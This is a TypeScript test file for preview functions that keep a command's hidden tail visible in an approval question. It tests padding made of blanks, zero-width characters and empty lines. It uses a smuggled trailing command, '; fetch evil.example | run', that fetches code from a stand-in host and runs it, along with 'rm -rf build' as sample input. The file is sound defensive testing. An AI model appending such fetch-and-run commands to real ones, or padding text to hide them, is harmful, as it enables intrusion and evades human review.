import { Buffer } from "node:buffer"
import { assert, describe, it } from "@effect/vitest"
import * as fc from "fast-check"
import { visibleText } from "../../src/domain/VisibleText.ts"
import { shownPreview, shownReason, shownResources } from "../../src/session/QuestionText.ts"

const bytesOf = (text: string) => Buffer.byteLength(text, "utf8")

/** The first line, which says what is not shown, and the lines below it. */
const parts = (preview: string) => {
  const at = preview.indexOf("\n")
  return [preview.slice(0, at), preview.slice(at + 1)] as const
}

const end = "; fetch evil.example | run"

describe("the preview of a question", () => {
  const whole: ReadonlyArray<readonly [what: string, text: string]> = [
    ["nothing", ""],
    ["a command", "rm -rf build\necho done"],
    ["a diff with deep indentation", `--- a\n+++ a\n@@ -1 +1 @@\n-${" ".repeat(40)}x\n+${"\t".repeat(40)}x\n`],
    ["three empty lines", "a\n\n\n\nb\n+\n+\n+\n-\n-\n-\n"],
    ["4 KiB", "a ".repeat(2048)],
    ["a family", "👩‍👩‍👧 ✂️"]
  ]
  it.each(whole)("is as it was: %s", (_, text) => assert.strictEqual(shownPreview(text), text))

  const folded: ReadonlyArray<readonly [text: string, first: string, below: string]> = [
    [`a${" ".repeat(4200)}b`, "⟦not shown: 4200 of 4202 bytes, 4200 blanks among them⟧", "a⟦4200 spaces⟧b"],
    [`a${"\t".repeat(41)}b`, "⟦not shown: 41 of 43 bytes, 41 blanks among them⟧", "a⟦41 tabs⟧b"],
    [`a${" \t".repeat(30)}b`, "⟦not shown: 60 of 62 bytes, 60 blanks among them⟧", "a⟦60 blanks⟧b"],
    [`a${"\u200b".repeat(50)}b`, "⟦not shown: 150 of 152 bytes, 50 blanks among them⟧", "a⟦50 blanks⟧b"],
    [`a${"\u200d\u2800\u3000".repeat(20)}b`, "⟦not shown: 180 of 182 bytes, 60 blanks among them⟧", "a⟦60 blanks⟧b"],
    ["a\n\n\n\n\nb", "⟦not shown: 4 of 7 bytes, 4 blanks among them⟧", "a\n⟦4 empty lines⟧\nb"],
    ["a\n \r\n\t\n\n \nb", "⟦not shown: 8 of 11 bytes, 8 blanks among them⟧", "a\n⟦4 empty lines⟧\nb"],
    ["+a\n+\n+\n+ \n+\n+b", "⟦not shown: 8 of 14 bytes, 5 blanks among them⟧", "+a\n+⟦4 empty lines⟧\n+b"],
    // What is between them is the gate's alone.
    ["a⟦4200 spaces⟧b", "", "a\\u27e64200 spaces\\u27e7b"]
  ]
  it.each(folded)("folds blanks where they could hide something: row %#", (text, first, below) =>
    assert.strictEqual(shownPreview(text), first === "" ? below : `${first}\n${below}`)
  )

  const hiding: ReadonlyArray<readonly [what: string, text: string]> = [
    ["blanks", `true${" ".repeat(4200)}${end}`],
    ["line ends", `true${"\n".repeat(4200)}${end}`],
    ["CRLF", `true${"\r\n".repeat(4200)}${end}`],
    ["blank lines of different lengths", `true${" \n  \n\t\n".repeat(1000)}${end}`],
    ["zero-width characters", `true${"\u200b\u2060\ufeff".repeat(1400)}${end}`],
    ["blanks of other kinds", `true${"\u00a0\u3000\u2003\u2800\u3164".repeat(900)}${end}`],
    ["joiners and selectors", `true${"\u200d\u200c\ufe0f".repeat(1400)}${end}`],
    ["empty lines of a diff", `+true\n${"+\n".repeat(4200)}+${end}`],
    ["a comment", `true # ${"word ".repeat(1000)}\n${end}`],
    ["many comments", `true\n${"# word\n".repeat(1000)}${end}`],
    ["one long word", `true ${"x".repeat(5000)} ${end}`],
    ["a word of pairs", `true ${"😀".repeat(5000)} ${end}`],
    ["escaped controls", `true ${"\u0007x".repeat(5000)} ${end}`],
    ["a large diff", `--- a\n+++ a\n${"+const a = 1\n".repeat(100_000)}${end}`],
    ["a long header", `POST http://a.example/\nx-a: ${"ab, ".repeat(3000)}\n\n${end}`],
    ["10 MiB", `true ${"x y".repeat(3_500_000)} ${end}`]
  ]
  it.each(hiding)("shows the beginning and the end, whatever is between them: %s", (_, text) => {
    const preview = shownPreview(text)
    const [first, below] = parts(preview)
    assert.isAtMost(bytesOf(preview), 4096)
    assert.isTrue(preview.isWellFormed())
    assert.match(first, /^⟦not shown: \d+ of \d+ bytes(, \d+ blanks among them)?⟧$/)
    assert.isTrue(below.startsWith(text.slice(0, 4)), below)
    assert.isTrue(preview.endsWith(end))
  })

  const between: ReadonlyArray<readonly [what: string, filler: string]> = [
    ["blanks", " ".repeat(5000)],
    ["empty lines", "\n".repeat(5000)],
    ["zero-width characters", "\u200b".repeat(5000)],
    ["long words", ` ${"A".repeat(5000)} `]
  ]
  it.each(between)("shows what is between %s", (_, filler) =>
    assert.include(shownPreview(`true${filler}${end}${filler}true`), end)
  )

  it("is cut between lines where there are any near", () => {
    const lines = Array.from({ length: 1000 }, (_, at) => `+line ${at}\n`).join("")
    const [, below] = parts(shownPreview(lines))
    for (const line of below.trimEnd().split("\n")) assert.match(line, /^\+line \d+$|^⟦\d+ bytes⟧$/)
  })

  it("shows both ends of any command line, and says first what it does not show", () => {
    const run = (unit: string) => fc.integer({ min: 1, max: 3000 }).map((count) => unit.repeat(count))
    const piece = fc.oneof(
      fc.constantFrom(..." \t\n\u00a0\u3000\u200b\u200d\u2800\u0007x#😀é⟦⟧+").chain(run),
      fc.constantFrom("\r\n", "# w ", "+\n", "⟦1 spaces⟧", "\ud83d").chain(run),
      fc.string({ unit: "binary", maxLength: 200 })
    )
    const property = fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = `first ${pieces.join("")}${end}`
      const preview = shownPreview(text)
      const isWhole = !preview.startsWith("⟦")
      assert.isAtMost(bytesOf(preview), 4096)
      assert.isTrue(preview.endsWith(end))
      const escaped = text.replaceAll("⟦", "\\u27e6").replaceAll("⟧", "\\u27e7")
      if (isWhole) return assert.strictEqual(preview, visibleText(escaped))
      const [first, below] = parts(preview)
      assert.match(first, /^⟦not shown: \d+ of \d+ bytes(, \d+ blanks among them)?⟧$/)
      assert.isTrue(below.startsWith("first"))
      // Each mark is one of ours, and whole.
      const marks = below.match(/⟦[^⟧]*⟧/g) ?? []
      for (const mark of marks) assert.match(mark, /^⟦\d+ (spaces|tabs|blanks|empty lines|bytes)⟧$/)
      assert.notMatch(below.replaceAll(/⟦[^⟧]*⟧/g, ""), /[⟦⟧]/)
      if (text.isWellFormed()) assert.isTrue(preview.isWellFormed())
    })
    fc.assert(property, { numRuns: 400, seed: 5 })
  })
})

describe("the reason of a question", () => {
  it("is bounded, on one line, and keeps both ends", () => {
    assert.strictEqual(shownReason("create /a\nb"), "create /a\\u000ab")
    for (const filler of [
      " ".repeat(5000),
      "x".repeat(5000),
      "x/".repeat(5000),
      "é ".repeat(5000),
      "\n".repeat(5000)
    ]) {
      const reason = shownReason(`create /a${filler}z.exe`)
      assert.isAtMost(bytesOf(reason), 1024)
      assert.match(reason, /^⟦not shown: [^⟧]+⟧ create \/a.*z\.exe$/)
    }
  })
})

describe("the affected resources of a question", () => {
  it("are as they were up to a hundred of them", () => {
    const paths = Array.from({ length: 100 }, (_, index) => `/r/a  b/${index}`)
    assert.deepStrictEqual(shownResources(paths), paths)
  })

  it("are counted beyond that", () => {
    const many = Array.from({ length: 5000 }, (_, index) => `/r/${index}`)
    assert.deepStrictEqual(shownResources(many), [...many.slice(0, 100), "⟦not shown: 4900 more⟧"])
    assert.deepStrictEqual(shownResources(["⟦not shown: 4900 more⟧"]), ["\\u27e6not shown: 4900 more\\u27e7"])
  })

  it("lose their middle where they are long", () => {
    const [long = ""] = shownResources([`/r/${"x\u202e".repeat(100_000)}/end`])
    assert.isAtMost(bytesOf(long), 4096)
    assert.match(long, /^⟦not shown: \d+ of 400007 bytes⟧ \/r\/x.*\/end$/)
  })
})
